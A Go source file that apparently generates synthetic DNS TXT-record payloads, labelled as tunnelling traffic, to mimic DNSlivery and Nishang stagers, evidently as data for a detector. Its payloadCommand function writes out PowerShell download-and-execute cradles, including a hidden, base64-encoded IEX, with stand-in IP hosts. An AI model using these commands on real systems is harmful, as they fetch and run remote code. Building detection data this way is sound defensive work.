package txtgen

import (
	"encoding/base64"
	"fmt"
	"unicode/utf16"
)

// txtPayloadFamily: payloads served from TXT records to a PowerShell
// stager. DNSlivery (github.com/no0be/DNSlivery, dnslivery.py
// base64_chunks) serves a file as standard base64 in chunks of 255
// characters (its -s default); Nishang's Out-DnsTxt (github.com/
// samratashok/nishang, Utility/Out-DnsTxt.ps1) deflates a script, base64s
// it and cuts it into 255-character records for DNS_TXT_Pwnage and
// Execute-DNSTXT-Code; and "powershell . (nslookup -q=txt …)[-1]" runs a
// command kept verbatim in a record.
var txtPayloadFamily = Family{
	Name: "txtpayload", Group: "txtpayload", Label: Tunnel,
	Source: "no0be/DNSlivery dnslivery.py; samratashok/nishang Utility/Out-DnsTxt.ps1; nslookup -q=txt execution",
	next:   txtPayloadAnswer,
}

func txtPayloadAnswer(g *gen) string {
	switch g.weighted(45, 35, 20) {
	case 0: // DNSlivery: a chunk of a file's base64
		var file []byte
		switch g.intn(3) {
		case 0:
			file = append(g.peHeader(), g.bytes(400)...)
		case 1:
			file = g.script(600)
		default:
			file = g.bytes(600)
		}
		return payloadChunk(g, base64.StdEncoding.EncodeToString(file))
	case 1: // Out-DnsTxt: a chunk of deflated, base64 script
		return payloadChunk(g, base64.StdEncoding.EncodeToString(g.bytes(g.between(60, 600))))
	default:
		return payloadCommand(g)
	}
}

// payloadChunk returns one 255-character record of enc, or its last,
// shorter one.
func payloadChunk(g *gen, enc string) string {
	parts := chunks(enc, 255)
	if len(parts) > 1 && g.chance(0.75) {
		return parts[g.intn(len(parts)-1)]
	}
	return parts[len(parts)-1]
}

// payloadCommand returns a PowerShell command kept in a record.
func payloadCommand(g *gen) string {
	url := fmt.Sprintf("http://%s/%s", g.ipv4(), g.word())
	switch g.intn(4) {
	case 0:
		return fmt.Sprintf("IEX(New-Object Net.WebClient).DownloadString('%s.ps1')", url)
	case 1:
		return fmt.Sprintf("powershell -w hidden -c \"iwr %s -OutFile $env:TEMP\\%s.exe; start $env:TEMP\\%s.exe\"", url, g.word(), g.word())
	case 2:
		cmd := fmt.Sprintf("IEX (iwr '%s' -UseBasicParsing).Content", url)
		return "powershell -nop -enc " + base64.StdEncoding.EncodeToString(utf16le(cmd))
	default:
		return g.pick("start", "stop", "exit", "whoami", "ipconfig /all", "net user", "systeminfo")
	}
}

// utf16le encodes s as PowerShell's -EncodedCommand expects.
func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}
